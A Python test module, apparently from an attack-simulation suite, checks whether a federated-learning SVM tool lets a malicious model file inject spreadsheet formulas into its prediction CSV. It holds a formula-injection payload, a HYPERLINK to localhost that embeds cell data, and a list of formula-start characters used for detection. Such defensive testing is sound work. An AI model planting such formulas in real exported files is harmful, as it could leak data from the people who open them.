"""A malicious model file: the coordinator names the classes, and a spreadsheet opens the predictions."""

import csv
import subprocess
import sys
from pathlib import Path

import numpy as np

from flower_pansvm.errors import PanSVMError
from flower_pansvm.models.fourier_svc import FourierSVC
from flower_pansvm.schema import Schema
from simulations.attack.active.hospitals import COLUMNS, drawn_table
from simulations.attack.active.registry import Attempt, refusal
from simulations.attack.active.rounding import fourier_maps

FORMULA = '=HYPERLINK("http://localhost/"&A2)'
STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters of a spreadsheet's formulas."""

ROWS, SIZE = 20, 60
"""Rows of the table, and features of the model."""


def play(folder: Path) -> Attempt:
    """Predict with the model, and look for the formula among the predictions."""
    folder.mkdir()
    model, table, out = (folder / name for name in ("model.npz", "table.csv", "predictions.csv"))
    drawn_table(ROWS, "table")[list(COLUMNS)].to_csv(table, index=False)
    feature_map = next(fourier_maps(SIZE))
    weights = np.zeros((feature_map.size, 1))
    try:
        FourierSVC.from_parts(Schema(COLUMNS, (FORMULA, "1")), feature_map, weights).save(model)
        command = [
            sys.executable,
            "-m",
            "flower_pansvm",
            "predict",
            str(model),
            str(table),
            "--out",
            str(out),
        ]
        done = subprocess.run(command, check=False, capture_output=True, text=True)
    except PanSVMError as error:
        return Attempt(refusal(error), "none", held=True)
    if not out.exists():
        return Attempt(
            refusal(PanSVMError(done.stderr.removeprefix("Error: "))), "none", held=done.returncode > 0
        )
    with out.open(newline="", encoding="utf-8") as file:
        formulas = sum(line["prediction"].startswith(STARTS) for line in csv.DictReader(file))
    return Attempt(f"{formulas} formulas in {ROWS} predictions", "none", formulas == 0)
